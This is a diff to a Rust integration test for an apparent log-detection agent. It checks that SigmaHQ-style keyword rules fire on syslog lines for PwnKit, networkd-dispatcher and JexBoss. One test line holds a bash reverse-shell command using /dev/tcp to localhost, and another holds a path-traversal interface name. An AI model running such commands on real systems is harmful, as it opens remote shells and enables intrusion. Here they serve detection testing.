@@ -16,6 +16,9 @@ const SSHD: &str = "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc";
 const SUDO_CVE_2019_14287: &str = "7fcc54cb-f27d-4684-84b7-436af096f858";
 const PWNKIT_AUTH: &str = "0506a799-698b-43b4-85a1-ac4c84c720e9";
 const SUSP_LOG_ENTRIES: &str = "f64b6e9a-5d9d-48a5-8289-e1dd2b3876e1";
+/// SigmaHQ's `'|all'` keyword rules: each keyword anywhere in the line.
+const NETWORKD_DISPATCHER: &str = "7ba05b43-adad-4c02-b5e9-c8c35cdf9fa8";
+const JEXBOSS: &str = "8ec2c8b4-557a-4121-b87c-5dfb3a602fae";
 
 struct Rsyslog {
     child: Child,
@@ -181,6 +184,38 @@ fn syslog_files_alert_by_program_and_facility_and_follow_rotation() {
     assert_eq!(kern.len(), 1, "{a:#?}");
     assert_eq!(kern[0]["event"]["Facility"], "daemon");
     assert_eq!(kern[0]["event"]["EventID"], 101);
+
+    // `'|all'` keyword rules on lines as the programs write them: pkexec is the program and
+    // the phrases its message; networkd-dispatcher likewise; jexboss's two keywords in one
+    // message of a bare `product: linux` rule.
+    rs.log(
+        "authpriv.warning",
+        "pkexec",
+        &format!("The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] {m}-all"),
+    );
+    rs.log(
+        "daemon.err",
+        "networkd-dispatcher",
+        &format!("ERROR:Error handling notification for interface ../../tmp/{m}-all"),
+    );
+    rs.log(
+        "user.notice",
+        "webapp",
+        &format!("exec bash -c /bin/bash -i >&/dev/tcp/127.0.0.1/9 0>&1 {m}-all"),
+    );
+    // authpriv reaches both files, daemon and user only the RFC 5424 one.
+    let want = [(PWNKIT_AUTH, 2), (NETWORKD_DISPATCHER, 1), (JEXBOSS, 1)];
+    let all = agent.wait_until(10, |all| {
+        want.iter()
+            .all(|(rule, n)| hits(all, rule, &format!("{m}-all")).len() >= *n)
+    });
+    for (rule, files) in want {
+        assert_eq!(
+            hits(&all, rule, &format!("{m}-all")).len(),
+            files,
+            "{rule}: once per file it is in: {all:#?}"
+        );
+    }
 
     // Rotation: auth.log renamed, rsyslog told to reopen (as logrotate does).
     std::fs::rename(dir.path().join("auth.log"), dir.path().join("auth.log.1")).unwrap();
